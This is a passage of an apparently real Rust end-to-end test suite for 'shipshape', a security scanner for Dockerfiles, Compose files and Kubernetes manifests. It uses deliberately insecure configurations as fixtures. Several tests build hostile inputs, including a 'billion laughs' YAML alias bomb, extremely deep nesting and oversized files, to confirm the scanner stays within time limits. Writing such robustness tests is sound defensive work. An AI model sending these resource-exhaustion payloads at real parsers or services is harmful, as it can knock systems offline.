//! End-to-end tests of the `shipshape` binary: real files in, exit codes and reports out.

mod images;

use images::{docker_save_archive, layer_tar, oci_layout};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

fn workspace_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// The day every run judges dates against (end of life, `expires`), so no test depends on the
/// real date.
const TODAY: &str = "2025-06-01";

fn shipshape(dir: &Path, args: &[&str]) -> Output {
    shipshape_on(TODAY, dir, args)
}

fn shipshape_on(today: &str, dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_shipshape"))
        .args(args)
        .current_dir(dir)
        .env_remove("NO_COLOR")
        .env("SHIPSHAPE_TODAY", today)
        .output()
        .expect("run shipshape")
}

fn shipshape_stdin(dir: &Path, args: &[&str], input: &[u8]) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_shipshape"))
        .args(args)
        .current_dir(dir)
        .env("SHIPSHAPE_TODAY", TODAY)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn shipshape");
    child.stdin.take().expect("stdin").write_all(input).expect("write stdin");
    child.wait_with_output().expect("wait")
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn json(output: &Output) -> serde_json::Value {
    serde_json::from_slice(&output.stdout).unwrap_or_else(|e| {
        panic!("not JSON ({e}):\n{}\nstderr: {}", stdout(output), String::from_utf8_lossy(&output.stderr))
    })
}

/// (code, path, start line) of every finding.
fn findings(report: &serde_json::Value) -> Vec<(String, String, u64)> {
    detailed(report).into_iter().map(|(code, path, line, _, _)| (code, path, line)).collect()
}

fn codes(report: &serde_json::Value) -> Vec<String> {
    let mut codes: Vec<String> = findings(report).into_iter().map(|(c, _, _)| c).collect();
    codes.sort();
    codes.dedup();
    codes
}

fn write(dir: &Path, name: &str, text: &str) {
    let path = dir.join(name);
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent).expect("mkdir");
    }
    std::fs::write(path, text).expect("write");
}

#[test]
fn insecure_example_fails_with_findings_on_exact_lines() {
    let out = shipshape(&workspace_root(), &["scan", "examples/insecure-app", "--format", "json"]);
    assert_eq!(out.status.code(), Some(1), "stderr: {}", String::from_utf8_lossy(&out.stderr));
    let report = json(&out);
    let found = findings(&report);
    let path = "examples/insecure-app/Dockerfile";
    for expected in
        [("IMG001", 6), ("IMG003", 8), ("IMG002", 15), ("MON001", 15), ("PRV001", 17), ("IMG003", 19)]
    {
        assert!(
            found.iter().any(|(c, p, l)| c == expected.0 && p == path && *l == expected.1),
            "missing {expected:?} in {found:?}"
        );
    }
    assert!(!found.iter().any(|(c, _, _)| c.starts_with("GEN")), "the example must parse cleanly: {found:?}");
    assert_eq!(report["targets"][0]["status"], "parsed");
}

#[test]
fn hardened_example_is_clean() {
    let out = shipshape(&workspace_root(), &["scan", "examples/hardened-app"]);
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    assert!(stdout(&out).contains("No findings."));
}

#[test]
fn every_format_renders_the_example() {
    let root = workspace_root();
    for (format, check) in [
        ("sarif", "\"version\": \"2.1.0\""),
        ("junit", "<testsuites"),
        ("github", "::error file=examples/insecure-app/Dockerfile,line=17"),
        ("checkstyle", "<checkstyle"),
        ("human", "high[PRV001] root-user"),
    ] {
        let out = shipshape(&root, &["scan", "examples/insecure-app", "--format", format, "--no-color"]);
        assert_eq!(out.status.code(), Some(1), "{format}");
        assert!(stdout(&out).contains(check), "{format} output lacks {check:?}:\n{}", stdout(&out));
    }
}

#[test]
fn stdin_is_scanned_under_its_given_path() {
    let dir = tempfile::tempdir().expect("tempdir");
    let out =
        shipshape_stdin(dir.path(), &["scan", "-", "--format", "json"], b"FROM nginx:latest\nUSER nginx\n");
    let report = json(&out);
    assert!(findings(&report).contains(&("IMG002".into(), "-".into(), 1)), "{report}");
    let out = shipshape_stdin(
        dir.path(),
        &["scan", "-", "--stdin-path", "svc/Dockerfile", "--format", "json"],
        b"FROM nginx:latest\n",
    );
    assert!(findings(&json(&out)).iter().any(|(c, p, _)| c == "IMG002" && p == "svc/Dockerfile"));
}

#[test]
fn fail_on_and_severity_filter() {
    let root = workspace_root();
    let dockerfile = "examples/insecure-app/Dockerfile";
    let out = shipshape(&root, &["scan", dockerfile, "--fail-on", "critical", "-q"]);
    assert_eq!(out.status.code(), Some(0), "no critical finding in the example Dockerfile");
    let out = shipshape(&root, &["scan", "examples/insecure-app", "--fail-on", "critical", "-q"]);
    assert_eq!(out.status.code(), Some(1), "the example deployment has critical findings");
    let out = shipshape(&root, &["scan", dockerfile, "--severity", "high", "--format", "json"]);
    assert_eq!(codes(&json(&out)), vec!["PRV001".to_string()]);
    let out =
        shipshape(&root, &["scan", dockerfile, "--select", "IMG", "--ignore", "DL3020", "--format", "json"]);
    assert_eq!(codes(&json(&out)), vec!["IMG001".to_string(), "IMG002".to_string(), "IMG033".to_string()]);
}

#[test]
fn compose_and_inspect_are_discovered_and_linked() {
    let out = shipshape(&workspace_root(), &["scan", "examples/insecure-app", "--format", "json"]);
    let report = json(&out);
    let kinds: Vec<(String, String)> = report["targets"]
        .as_array()
        .expect("targets")
        .iter()
        .map(|t| {
            (t["path"].as_str().unwrap_or_default().into(), t["kind"].as_str().unwrap_or_default().into())
        })
        .collect();
    for expected in [
        ("examples/insecure-app/Dockerfile", "dockerfile"),
        ("examples/insecure-app/compose.yaml", "compose"),
        ("examples/insecure-app/docker-inspect.json", "docker-inspect"),
    ] {
        assert!(kinds.contains(&(expected.0.into(), expected.1.into())), "{kinds:?}");
    }
    let found = findings(&report);
    let compose = "examples/insecure-app/compose.yaml";
    let inspect = "examples/insecure-app/docker-inspect.json";
    for (code, path, line) in [
        ("NET200", compose, 24),
        ("PRV100", compose, 24),
        ("ISO105", compose, 27),
        ("SEC100", compose, 18),
        ("PRV100", inspect, 84),
    ] {
        assert!(
            found.iter().any(|(c, p, l)| c == code && p == path && *l == line),
            "missing {code} {path}:{line}"
        );
    }
    // `web` builds from ./Dockerfile, whose final USER is root: the finding points into the Dockerfile.
    assert!(
        found.iter().any(|(c, p, l)| c == "PRV109" && p == "examples/insecure-app/Dockerfile" && *l == 17),
        "{found:?}"
    );
    let prv109 = report["findings"]
        .as_array()
        .and_then(|a| {
            a.iter().find(|f| {
                f["code"] == "PRV109" && f["location"]["path"] == "examples/insecure-app/Dockerfile"
            })
        })
        .cloned()
        .unwrap_or_default();
    assert_eq!(prv109["related"][0]["location"]["path"], compose, "{prv109:#}");
    assert_eq!(
        prv109["related"][0]["location"]["region"]["start_line"], 5,
        "related service located: {prv109:#}"
    );
    let net200 =
        report["findings"].as_array().and_then(|a| a.iter().find(|f| f["code"] == "NET200")).cloned();
    let message = net200.and_then(|f| f["message"].as_str().map(str::to_string)).unwrap_or_default();
    assert!(message.contains("web (0.0.0.0:8080) → network default → agent"), "{message}");
}

#[test]
fn compose_overrides_point_at_the_file_that_set_the_value() {
    let dir = tempfile::tempdir().expect("tempdir");
    write(dir.path(), "compose.yaml", "services:\n  app:\n    image: nginx:1.27\n    user: \"10001\"\n");
    write(dir.path(), "compose.override.yaml", "services:\n  app:\n    privileged: true\n");
    let report = json(&shipshape(dir.path(), &["scan", "--format", "json", "--select", "PRV100"]));
    assert_eq!(findings(&report), vec![("PRV100".to_string(), "compose.override.yaml".to_string(), 3)]);
    let targets = report["targets"].as_array().map(Vec::len);
    assert_eq!(targets, Some(1), "the override is part of the project, not a target of its own");
}

#[test]
fn yaml_pragmas_and_stdin_compose() {
    let dir = tempfile::tempdir().expect("tempdir");
    let compose = "services:\n  agent:\n    image: agent:1\n    # shipshape: ignore=ISO105 -- read-only metrics agent, reviewed\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n    privileged: true\n";
    let out = shipshape_stdin(
        dir.path(),
        &["scan", "-", "--format", "json", "--select", "ISO105,PRV100"],
        compose.as_bytes(),
    );
    let codes: Vec<(String, u64)> = findings(&json(&out)).into_iter().map(|(c, _, l)| (c, l)).collect();
    assert_eq!(codes, vec![("PRV100".to_string(), 7)]);
}

#[test]
fn usage_errors_exit_2() {
    let root = workspace_root();
    for args in [
        vec!["scan", "--format", "yaml"],
        vec!["scan", "--config", "/nonexistent/shipshape.toml", "examples"],
        vec!["scan", "--select", "PRV9999x", "examples"],
        vec!["scan", "--build-arg", "novalue", "examples"],
        vec!["rule", "NOPE01"],
        vec!["frobnicate"],
    ] {
        let out = shipshape(&root, &args);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
        assert!(!out.stderr.is_empty(), "{args:?} must explain itself on stderr");
    }
}

#[test]
fn rules_and_rule_documentation() {
    let root = workspace_root();
    let out = shipshape(&root, &["rules"]);
    assert_eq!(out.status.code(), Some(0));
    let listing = stdout(&out);
    assert!(listing.contains("PRV001") && listing.contains("GEN001") && listing.contains("hadolint:DL3002"));
    let out = shipshape(&root, &["rule", "DL3002"]);
    assert_eq!(out.status.code(), Some(0));
    let doc = stdout(&out);
    assert!(doc.starts_with("# PRV001 root-user"), "{doc}");
    assert!(doc.contains("## Why is this bad?"));
    let out = shipshape(&root, &["rules", "--format", "json"]);
    let rules: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json rules");
    assert!(rules.as_array().is_some_and(|a| a.len() >= 14));
}

#[test]
fn hostile_inputs_are_reported_and_the_rest_still_scanned() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    let mut huge = std::fs::File::create(root.join("huge.Dockerfile")).expect("create");
    let line = vec![b'a'; 1024 * 1024];
    huge.write_all(b"RUN echo ").expect("write");
    for _ in 0..100 {
        huge.write_all(&line).expect("write");
    }
    drop(huge);
    std::fs::write(root.join("binary.Dockerfile"), b"\x7fELF\x02\x01\x01\x00\x00\x00garbage").expect("write");
    std::fs::write(root.join("latin1.Dockerfile"), b"FROM debian:12\nLABEL author=\"Jos\xe9\"\nUSER root\n")
        .expect("write");
    write(root, "good/Dockerfile", "FROM nginx:latest\n");
    #[cfg(unix)]
    std::os::unix::fs::symlink("/nonexistent/target", root.join("dangling.Dockerfile")).expect("symlink");

    let started = std::time::Instant::now();
    let out = shipshape(
        root,
        &[
            "scan",
            "huge.Dockerfile",
            "binary.Dockerfile",
            "latin1.Dockerfile",
            "dangling.Dockerfile",
            "good",
            "--format",
            "json",
        ],
    );
    assert!(started.elapsed().as_secs() < 20, "hostile input took {:?}", started.elapsed());
    let report = json(&out);
    let found = findings(&report);
    for (code, path, line) in [
        ("GEN004", "huge.Dockerfile", 1),
        ("GEN004", "binary.Dockerfile", 1),
        ("GEN004", "dangling.Dockerfile", 1),
        ("GEN008", "latin1.Dockerfile", 2),
        ("PRV001", "latin1.Dockerfile", 3),
        ("IMG002", "good/Dockerfile", 1),
    ] {
        assert!(
            found.iter().any(|(c, p, l)| c == code && p == path && *l == line),
            "missing {code} {path}:{line} in {found:?}"
        );
    }
    let statuses: Vec<(String, String)> = report["targets"]
        .as_array()
        .expect("targets")
        .iter()
        .map(|t| {
            (t["path"].as_str().unwrap_or_default().into(), t["status"].as_str().unwrap_or_default().into())
        })
        .collect();
    assert!(statuses.contains(&("huge.Dockerfile".into(), "unreadable".into())), "{statuses:?}");
    assert!(statuses.contains(&("good/Dockerfile".into(), "parsed".into())), "{statuses:?}");
}

#[test]
fn a_huge_single_line_parses_in_bounded_time_when_allowed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut text = String::from("FROM debian:12\nRUN echo ");
    text.push_str(&"x".repeat(100 * 1024 * 1024));
    text.push_str("\nUSER root\n");
    std::fs::write(dir.path().join("Dockerfile"), &text).expect("write");
    drop(text);
    let started = std::time::Instant::now();
    let out =
        shipshape(dir.path(), &["scan", "Dockerfile", "--max-file-size", "200000000", "--format", "json"]);
    assert!(started.elapsed().as_secs() < 30, "took {:?}", started.elapsed());
    let found = findings(&json(&out));
    assert!(
        found.iter().any(|(c, _, l)| c == "GEN001" && *l == 2),
        "the over-long line is a parse error: {found:?}"
    );
    assert!(
        found.iter().any(|(c, _, l)| c == "PRV001" && *l == 3),
        "the rest of the file is still checked: {found:?}"
    );
}

#[test]
fn ten_thousand_files() {
    let dir = tempfile::tempdir().expect("tempdir");
    for i in 0..10_000 {
        let name = if i % 10 == 0 {
            format!("d{}/svc{i}/Dockerfile", i % 100)
        } else {
            format!("d{}/f{i}.txt", i % 100)
        };
        write(dir.path(), &name, "FROM nginx:latest\n");
    }
    let out = shipshape(dir.path(), &["scan", ".", "--format", "json", "--select", "IMG002"]);
    let report = json(&out);
    let targets = report["targets"].as_array().expect("targets");
    let of_kind = |kind: &str| targets.iter().filter(|t| t["kind"] == kind).count();
    assert_eq!(
        (of_kind("dockerfile"), of_kind("text")),
        (1000, 9000),
        "the other text files are read for secrets"
    );
    assert_eq!(findings(&report).len(), 1000);
}

#[test]
fn gitignored_files_are_skipped() {
    let dir = tempfile::tempdir().expect("tempdir");
    write(dir.path(), "app/Dockerfile", "FROM nginx:latest\n");
    write(dir.path(), "vendor/Dockerfile", "FROM nginx:latest\n");
    write(dir.path(), ".gitignore", "vendor/\n");
    let report = json(&shipshape(dir.path(), &["scan", "--format", "json"]));
    let paths: Vec<String> = findings(&report).into_iter().map(|(_, p, _)| p).collect();
    assert!(paths.iter().all(|p| p == "app/Dockerfile"), "{paths:?}");
    assert!(!paths.is_empty());
}

#[test]
fn inline_suppressions_in_every_dialect() {
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        "Dockerfile",
        "# checkov:skip=CKV_DOCKER_2:healthchecks come from Kubernetes probes\n\
         FROM nginx:latest\n\
         # hadolint ignore=DL3007\n\
         FROM nginx:latest\n\
         # shipshape: ignore=PRV001 -- the entrypoint drops privileges itself\n\
         USER root\n\
         # shipshape: ignore=IMG003 -- nothing to suppress here\n\
         COPY a /a\n",
    );
    let report = json(&shipshape(dir.path(), &["scan", "--format", "json"]));
    let found = findings(&report);
    let codes: Vec<(&str, u64)> = found.iter().map(|(c, _, l)| (c.as_str(), *l)).collect();
    assert_eq!(codes, vec![("IMG002", 2), ("GEN005", 7)], "{found:?}");
}

#[test]
fn configuration_file_applies_and_reports_its_own_errors() {
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        "shipshape.toml",
        "fail-on = \"critical\"\n\
         [rules]\n\
         ignroe = [\"MON001\"]\n\
         ignore = [\"MON001\"]\n\
         [severity]\n\
         DL3007 = \"critical\"\n\
         [[ignore]]\n\
         paths = [\"legacy/**\"]\n\
         reason = \"being rewritten\"\n\
         [[ignore]]\n\
         paths = [\"old/**\"]\n\
         rules = [\"PRV002\"]\n\
         reason = \"accepted until the migration\"\n\
         expires = \"2020-01-31\"\n",
    );
    write(dir.path(), "svc/Dockerfile", "FROM nginx:latest\n");
    write(dir.path(), "legacy/Dockerfile", "FROM nginx:latest\n");
    write(dir.path(), "old/Dockerfile", "FROM nginx:1.27\n");
    let out = shipshape(dir.path(), &["scan", "--format", "json"]);
    let report = json(&out);
    let found = findings(&report);
    let codes: Vec<(&str, &str, u64)> = found.iter().map(|(c, p, l)| (c.as_str(), p.as_str(), *l)).collect();
    assert_eq!(
        codes,
        vec![
            ("PRV002", "old/Dockerfile", 1),
            ("GEN007", "shipshape.toml", 3),
            ("GEN006", "shipshape.toml", 14),
            ("PRV002", "svc/Dockerfile", 1),
            ("IMG002", "svc/Dockerfile", 1),
        ],
        "{report:#}"
    );
    let img002 =
        report["findings"].as_array().and_then(|a| a.iter().find(|f| f["code"] == "IMG002")).cloned();
    assert_eq!(img002.map(|f| f["severity"].clone()), Some(serde_json::json!("critical")));
    assert_eq!(out.status.code(), Some(1), "the critical override reaches fail-on = critical");
}

#[test]
fn baseline_reports_only_new_findings() {
    let dir = tempfile::tempdir().expect("tempdir");
    write(dir.path(), "Dockerfile", "FROM nginx:latest\nUSER root\n");
    let out = shipshape(dir.path(), &["scan", "--write-baseline", "baseline.json", "-q"]);
    assert_eq!(out.status.code(), Some(1));
    let out = shipshape(dir.path(), &["scan", "--baseline", "baseline.json", "--format", "json"]);
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    assert!(findings(&json(&out)).is_empty());
    write(
        dir.path(),
        "Dockerfile",
        "# a new comment shifts every line\nFROM nginx:latest\nUSER root\nADD x /x\n",
    );
    let out = shipshape(dir.path(), &["scan", "--baseline", "baseline.json", "--format", "json"]);
    let codes: Vec<String> = findings(&json(&out)).into_iter().map(|(c, _, _)| c).collect();
    assert_eq!(codes, vec!["IMG003".to_string()]);
}

#[test]
fn unparsable_lines_do_not_hide_the_rest() {
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        "Dockerfile",
        "FROM debian:12\nRUN <<EOF\necho hi\nEOF\n# a comment right after a heredoc\nUSR app\nCOPY --chmown=a b /c\nUSER root\n",
    );
    let found = findings(&json(&shipshape(dir.path(), &["scan", "--format", "json"])));
    let codes: Vec<(&str, u64)> = found.iter().map(|(c, _, l)| (c.as_str(), *l)).collect();
    assert!(codes.contains(&("GEN002", 6)), "{codes:?}");
    assert!(codes.contains(&("GEN003", 7)), "{codes:?}");
    assert!(codes.contains(&("PRV001", 8)), "{codes:?}");
    assert!(!codes.iter().any(|(c, _)| *c == "GEN001"), "{codes:?}");
}

#[test]
fn hostile_yaml_is_rejected_quickly_with_a_clear_error() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut bomb = String::from(
        "services:\n  a:\n    image: x:1\nx0: &x0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n",
    );
    for i in 1..10 {
        let prev = i - 1;
        bomb.push_str(&format!("x{i}: &x{i} [*x{prev}, *x{prev}, *x{prev}, *x{prev}, *x{prev}, *x{prev}, *x{prev}, *x{prev}, *x{prev}]\n"));
    }
    write(dir.path(), "bomb/compose.yaml", &bomb);
    write(
        dir.path(),
        "deep/compose.yaml",
        &format!("services: {}{}\n", "[".repeat(10_000), "]".repeat(10_000)),
    );
    write(
        dir.path(),
        "huge/compose.yaml",
        &format!("services:\n  a:\n    image: \"{}\"\n", "x".repeat(20 * 1024 * 1024)),
    );
    write(dir.path(), "good/compose.yaml", "services:\n  a:\n    image: nginx:1.27\n    privileged: true\n");
    let started = std::time::Instant::now();
    let out = shipshape(dir.path(), &["scan", ".", "--format", "json", "--max-file-size", "64000000"]);
    assert!(started.elapsed().as_secs() < 20, "took {:?}", started.elapsed());
    let report = json(&out);
    let found = findings(&report);
    for path in ["bomb/compose.yaml", "deep/compose.yaml", "huge/compose.yaml"] {
        assert!(
            found.iter().any(|(c, p, _)| c.starts_with("GEN") && p == path),
            "no error for {path}: {found:?}"
        );
    }
    assert!(found.iter().any(|(c, p, _)| c == "PRV100" && p == "good/compose.yaml"), "{found:?}");
}

#[test]
fn anchored_settings_are_one_finding_naming_every_service() {
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        "compose.yaml",
        "x-r: &r\n  restart: always\nservices:\n  a: {<<: *r, image: \"x:1\"}\n  b: {<<: *r, image: \"x:1\"}\n",
    );
    write(dir.path(), "nets/docker-compose.yml", "version: \"2\"\nnetworks:\n  foo: {}\n");
    let report = json(&shipshape(dir.path(), &["scan", "--format", "json", "--select", "ISO114,GEN"]));
    let found = findings(&report);
    assert_eq!(found, vec![("ISO114".to_string(), "compose.yaml".to_string(), 2)], "{report:#}");
    let related: Vec<String> = report["findings"][0]["related"]
        .as_array()
        .expect("related")
        .iter()
        .map(|r| r["label"].as_str().unwrap_or_default().to_string())
        .collect();
    assert_eq!(related, ["applies to `a`", "applies to `b`"]);
}

#[test]
fn real_reports_validate_against_their_schemas() {
    let root = workspace_root();
    let out = shipshape(&root, &["scan", "examples", "--format", "json"]);
    let schema: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(root.join("docs/json-schema.json")).expect("schema"))
            .expect("schema is JSON");
    let validator = jsonschema::draft202012::options().build(&schema).expect("schema compiles");
    let report = json(&out);
    let errors: Vec<String> =
        validator.iter_errors(&report).map(|e| format!("{e} at {}", e.instance_path())).collect();
    assert!(errors.is_empty(), "{errors:?}");

    let out = shipshape(&root, &["scan", "examples", "--format", "sarif"]);
    let sarif_schema_path = root.join("crates/shipshape-report/tests/data/sarif-schema-2.1.0.json");
    let schema: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(sarif_schema_path).expect("sarif schema"))
            .expect("JSON");
    let validator = jsonschema::draft4::options().build(&schema).expect("SARIF schema compiles");
    let sarif = json(&out);
    let errors: Vec<String> =
        validator.iter_errors(&sarif).map(|e| format!("{e} at {}", e.instance_path())).collect();
    assert!(errors.is_empty(), "{errors:?}");
    assert!(sarif["runs"][0]["results"].as_array().is_some_and(|r| r.len() > 50));
}

#[test]
fn compose_interpolation_reads_env_files() {
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        "compose.yaml",
        "services:\n  app:\n    image: nginx:1.27\n    privileged: ${PRIV:-false}\n",
    );
    write(dir.path(), ".env", "PRIV=true\n");
    write(dir.path(), "prod.env", "PRIV=false\n");
    let with_dotenv = json(&shipshape(dir.path(), &["scan", "--format", "json", "--select", "PRV100"]));
    assert_eq!(findings(&with_dotenv), vec![("PRV100".to_string(), "compose.yaml".to_string(), 4)]);
    let with_env_file = json(&shipshape(
        dir.path(),
        &["scan", "--format", "json", "--select", "PRV100", "--env-file", "prod.env"],
    ));
    assert!(findings(&with_env_file).is_empty(), "{with_env_file:#}");
}

#[test]
fn a_pragma_inside_a_continuation_covers_its_instruction() {
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        "Dockerfile",
        "FROM debian:12\nADD a \\\n# shipshape: ignore=IMG003 -- reviewed\n    /a\nADD b /b\nUSER app\n",
    );
    let report = json(&shipshape(dir.path(), &["scan", "--format", "json", "--select", "IMG003,GEN005"]));
    let codes: Vec<(String, u64)> = findings(&report).into_iter().map(|(c, _, l)| (c, l)).collect();
    assert_eq!(codes, vec![("IMG003".to_string(), 5)]);
}

#[test]
fn a_file_read_by_two_targets_reports_each_finding_once() {
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        "compose.yaml",
        "include:\n  - shared.yaml\nservices:\n  web:\n    image: nginx:1.27\n",
    );
    write(dir.path(), "shared.yaml", "services:\n  agent:\n    image: agent:1\n    privileged: true\n");
    let report = json(&shipshape(dir.path(), &["scan", ".", "--format", "json", "--select", "PRV100"]));
    assert_eq!(findings(&report), vec![("PRV100".to_string(), "shared.yaml".to_string(), 4)], "{report:#}");
}

const SHOP: &str = "apiVersion: v1
kind: Namespace
metadata:
  name: shop
  labels:
    pod-security.kubernetes.io/enforce: baseline
---
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
  namespace: shop
spec:
  selector: {matchLabels: {app: web}}
  template:
    metadata:
      labels: {app: web}
    spec:
      containers:
        - name: web
          image: nginx:1.27
          securityContext:
            privileged: true
";

const HARDENED_POD: &str = "apiVersion: v1
kind: Pod
metadata:
  name: api
  namespace: shop
spec:
  automountServiceAccountToken: false
  securityContext:
    runAsNonRoot: true
    seccompProfile: {type: RuntimeDefault}
  containers:
    - name: api
      image: example/api:1.0
      securityContext:
        allowPrivilegeEscalation: false
        capabilities: {drop: [ALL]}
";

#[test]
fn namespace_labels_and_the_pss_flag_set_the_pod_security_level() {
    let dir = tempfile::tempdir().expect("temp dir");
    // The Namespace is in another file than the Deployment: the level still applies.
    let (namespace, deployment) = SHOP.split_once("---\n").expect("two documents");
    write(dir.path(), "namespace.yaml", namespace);
    write(dir.path(), "deploy/web.yaml", deployment);
    let report = json(&shipshape(dir.path(), &["scan", "-f", "json"]));
    let found = codes(&report);
    assert!(found.contains(&"PRV300".to_string()), "{found:?}");
    assert!(!found.contains(&"PRV100".to_string()), "restated by PRV300: {found:?}");
    assert!(!found.iter().any(|c| c == "PRV305"), "restricted checks at baseline: {found:?}");
    let restricted = json(&shipshape(dir.path(), &["scan", "-f", "json", "--pss", "restricted"]));
    let found = codes(&restricted);
    for code in ["PRV300", "PRV305", "PRV306", "PRV308", "PRV309"] {
        assert!(found.contains(&code.to_string()), "{code} missing: {found:?}");
    }
    // An unknown level is a usage error.
    let bad = shipshape(dir.path(), &["scan", "--pss", "strict"]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("not a Pod Security level"));
}

#[test]
fn pss_command_reports_each_pods_level_and_failing_controls() {
    let dir = tempfile::tempdir().expect("temp dir");
    write(dir.path(), "shop.yaml", SHOP);
    write(dir.path(), "api.yaml", HARDENED_POD);
    let output = shipshape(dir.path(), &["pss", "-f", "json"]);
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    let verdicts = json(&output);
    let pods = verdicts["pods"].as_array().expect("pods");
    let level = |object: &str| {
        pods.iter()
            .find(|p| p["object"] == object)
            .map(|p| p["level"].as_str().unwrap_or_default().to_string())
    };
    assert_eq!(level("Pod/api").as_deref(), Some("restricted"));
    assert_eq!(level("Deployment/web").as_deref(), Some("privileged"));
    let web = pods.iter().find(|p| p["object"] == "Deployment/web").expect("web");
    assert_eq!(web["baseline"][0]["check"], "privileged");
    assert_eq!(web["baseline"][0]["line"], 23);
    let human = shipshape(dir.path(), &["pss", "--require", "baseline", "api.yaml", "shop.yaml"]);
    assert_eq!(human.status.code(), Some(1));
    let text = stdout(&human);
    assert!(text.contains("shop.yaml:8: Deployment/web (namespace shop): privileged"), "{text}");
    assert!(text.contains("2 pods at v1.37: 1 restricted, 0 baseline, 1 privileged"), "{text}");
    let older = shipshape(dir.path(), &["pss", "--require", "restricted:v1.25", "api.yaml"]);
    assert_eq!(older.status.code(), Some(0), "{}", stdout(&older));
}

#[test]
fn admission_reviews_are_answered_like_the_webhook() {
    let dir = tempfile::tempdir().expect("temp dir");
    let review = |pod: &str| {
        format!(
            "{{\"apiVersion\": \"admission.k8s.io/v1\", \"kind\": \"AdmissionReview\", \"request\": {{\"uid\": \"u-1\", \"operation\": \"CREATE\", \"namespace\": \"shop\", \"object\": {pod}}}}}"
        )
    };
    let privileged = "{\"apiVersion\": \"v1\", \"kind\": \"Pod\", \"metadata\": {\"name\": \"p\"}, \"spec\": {\"hostPID\": true, \"containers\": [{\"name\": \"c\", \"image\": \"x\"}]}}";
    write(dir.path(), "review.json", &review(privileged));
    let denied = shipshape(dir.path(), &["admission", "review.json", "--pss", "baseline"]);
    assert_eq!(denied.status.code(), Some(1));
    let response = json(&denied);
    assert_eq!(response["kind"], "AdmissionReview");
    assert_eq!(response["response"]["uid"], "u-1");
    assert_eq!(response["response"]["allowed"], false);
    assert!(
        response["response"]["status"]["message"].as_str().is_some_and(
            |m| m.contains("violates PodSecurity \"baseline:v1.37\": host namespaces (hostPID=true)")
        ),
        "{response}"
    );
    let allowed =
        shipshape_stdin(dir.path(), &["admission", "--pss", "privileged"], review(privileged).as_bytes());
    assert_eq!(allowed.status.code(), Some(0));
    assert_eq!(json(&allowed)["response"]["allowed"], true);
    // The same review through `scan` reports the finding at its line in the review file.
    let scanned = json(&shipshape(dir.path(), &["scan", "-f", "json", "review.json"]));
    assert!(codes(&scanned).contains(&"ISO100".to_string()), "{scanned}");
    write(dir.path(), "broken.json", "{\"kind\": \"AdmissionReview\", \"request\": ");
    let broken = shipshape(dir.path(), &["admission", "broken.json", "--pss", "baseline"]);
    assert_eq!(broken.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&broken.stderr).contains("broken.json:1:"), "{broken:?}");
}

#[test]
fn ignore_annotation_suppresses_inside_its_object_and_needs_a_reason() {
    let dir = tempfile::tempdir().expect("temp dir");
    let with = |annotation: &str| {
        format!(
            "apiVersion: v1\nkind: Pod\nmetadata:\n  name: agent\n  annotations:\n    shipshape.io/ignore: {annotation}\nspec:\n  containers:\n    - name: a\n      image: x:1\n      securityContext:\n        privileged: true\n"
        )
    };
    write(dir.path(), "reasoned.yaml", &with("\"PRV100 -- the node agent needs the host's devices\""));
    write(dir.path(), "bare.yaml", &with("PRV100"));
    write(dir.path(), "unused.yaml", &with("\"ISO105 -- no socket here\""));
    let report = json(&shipshape(dir.path(), &["scan", "-f", "json"]));
    let all = findings(&report);
    let in_file = |file: &str| -> Vec<String> {
        all.iter().filter(|(_, p, _)| p == file).map(|(c, _, _)| c.clone()).collect()
    };
    assert!(!in_file("reasoned.yaml").contains(&"PRV100".to_string()), "{all:?}");
    let bare = in_file("bare.yaml");
    assert!(bare.contains(&"PRV100".to_string()) && bare.contains(&"GEN007".to_string()), "{bare:?}");
    let unused = in_file("unused.yaml");
    assert!(unused.contains(&"PRV100".to_string()) && unused.contains(&"GEN005".to_string()), "{unused:?}");
}

#[test]
fn hostile_manifests_are_bounded_and_the_rest_still_checked() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut bomb = String::from("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb}\ndata:\n");
    bomb.push_str("  x0: &x0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for i in 1..10 {
        let prev = i - 1;
        bomb.push_str(&format!("  x{i}: &x{i} [*x{prev}, *x{prev}, *x{prev}, *x{prev}, *x{prev}, *x{prev}, *x{prev}, *x{prev}, *x{prev}]\n"));
    }
    write(dir.path(), "bomb.yaml", &bomb);
    // Lists nested far deeper than any real manifest.
    let mut nested = String::from("apiVersion: v1\nkind: List\nitems:\n");
    for depth in 1..40 {
        nested.push_str(&format!(
            "{}- apiVersion: v1\n{}  kind: List\n{}  items:\n",
            "  ".repeat(depth),
            "  ".repeat(depth),
            "  ".repeat(depth)
        ));
    }
    write(dir.path(), "nested.yaml", &nested);
